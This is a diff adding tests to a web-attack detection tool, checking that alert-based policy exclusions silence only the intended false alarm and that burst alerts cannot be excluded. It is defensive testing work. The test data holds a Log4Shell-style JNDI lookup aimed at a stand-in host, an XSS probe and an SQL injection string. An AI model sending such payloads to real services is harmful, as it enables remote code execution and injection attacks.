@@ -164,6 +164,82 @@ def test_an_imported_openapi_document_is_a_policy(tmp_path):
 
 # --- in the daemon
 
+def alerts_of(config, *records):
+    result = run('scan', '--rules', RULES, '--config', str(config), '--output', 'alerts', '-', stdin=b'\n'.join(records) + b'\n')
+    assert result.code == 0, result
+    return result.out
+
+
+def exclude(*arguments, alerts='', code=0):
+    result = run('policy', 'exclude', *arguments, stdin=alerts.encode())
+    assert result.code == code, result
+    return result
+
+
+def with_policy_file(tmp_path, config, text):
+    """The configuration with one more policy file."""
+    (tmp_path / 'exclusions.yaml').write_text(text)
+    path = tmp_path / 'with_exclusions.yaml'
+    written = config.read_text()
+    path.write_text(written.replace('policy:', 'policy:\n  files: [exclusions.yaml]', 1) if 'policy:' in written
+                    else written + 'policy: {files: [exclusions.yaml]}\n')
+    return path
+
+
+def test_an_exclusion_made_of_an_alert_ends_this_false_alarm_and_nothing_else(config, tmp_path):
+    alarm = record('/console/4711', f'q={SQLI}')
+    made = exclude('--from-alert', '-', '-c', str(config), '--comment', 'an SQL console', '--days', '30',
+                   alerts=alerts_of(config, alarm))
+    assert 'new routes; they end after' in made.err
+    mended = with_policy_file(tmp_path, config, made.out)
+    assert verdict(config, '/console/4711', f'q={SQLI}')['malicious']
+    assert not verdict(mended, '/console/4711', f'q={SQLI}')['malicious']
+    assert not verdict(mended, '/console/99', f'q={SQLI}')['malicious'], 'ids are folded'
+    assert verdict(mended, '/console/4711', f'r={SQLI}')['malicious'], 'another parameter'
+    assert verdict(mended, '/other/4711', f'q={SQLI}')['malicious'], 'another route'
+    assert verdict(mended, '/console/4711', f'q={SQLI}', method='POST')['malicious'], 'another method'
+    assert verdict(mended, '/console/4711', 'q=<script>alert(1)</script>')['malicious'], 'another rule'
+
+
+def test_an_exclusion_names_the_route_that_the_policy_has_and_may_hold_for_one_client_and_rule_only(config, tmp_path):
+    alerts = alerts_of(config, record('/admin/a', f'q={SQLI}', ip='10.1.2.3'))
+    hits = json.loads(alerts.splitlines()[0])['evidences'][0]['data']['hits']
+    made = exclude('--from-alert', '-', '-c', str(config), '--client', alerts=alerts)
+    assert 'route: "/admin/**"' in made.out and 'clients: ["10.1.2.3"]' in made.out, made
+    assert 'routes: []' in made.out
+    mended = with_policy_file(tmp_path, config, made.out)
+    assert not verdict(mended, '/admin/a', f'q={SQLI}', ip='10.1.2.3')['malicious']
+    assert verdict(mended, '/admin/a', f'q={SQLI}', ip='10.1.2.4')['malicious'], 'another client'
+    one_rule = exclude('--from-alert', '-', '-c', str(config), '--rule', hits[0]['rule_id'], alerts=alerts)
+    assert hits[0]['rule_id'] in one_rule.out
+    assert all(hit['rule_id'] not in one_rule.out for hit in hits[1:])
+
+
+def test_an_exclusion_reaches_places_that_are_no_parameters_and_needs_no_policy_before(tmp_path):
+    bare = tmp_path / 'bare.yaml'
+    bare.write_text('rules: {security_level: standard}\n')
+    agent = {'user_agent': '${jndi:ldap://probe.example/a}'}
+    made = exclude('--from-alert', '-', alerts=alerts_of(bare, record('/', **agent)))
+    assert 'in: [user_agent]' in made.out and 'default limits' in made.err, made
+    mended = with_policy_file(tmp_path, bare, made.out)
+    assert verdict(bare, '/', **agent)['malicious']
+    assert not verdict(mended, '/', **agent)['malicious']
+    assert verdict(mended, '/', 'q=${jndi:ldap://probe.example/a}')['malicious'], 'another place'
+
+
+def test_what_cannot_be_excluded_is_told(config, tmp_path):
+    refused_logins = [record('/login', ip='192.0.2.77', method='POST', status=401) for _ in range(80)]
+    alerts = alerts_of(config, *refused_logins)
+    assert '"burst"' in alerts
+    bursts = '\n'.join(line for line in alerts.splitlines() if '"kind":"burst"' in line)
+    assert 'is of kind burst' in exclude('--from-alert', '-', alerts=bursts, code=1).err
+    attack = alerts_of(config, record('/x', f'q={SQLI}'))
+    assert 'no hits of these rules' in exclude('--from-alert', '-', '--rule', 'none', alerts=attack, code=1).err
+    assert 'no alert whose id begins with zz' in exclude('--from-alert', '-', '--alert', 'zz', alerts=attack, code=1).err
+    assert 'no alerts of weir' in exclude('--from-alert', '-', alerts='{"a": 1}\n', code=1).err
+    assert '--alert ID' in exclude(code=2).err
+
+
 def published(pipeline):
     """(client, rule, category) of each hit in an alert."""
     return {(alert['unmapped']['weir']['client'], hit['rule_id'], hit['category'])
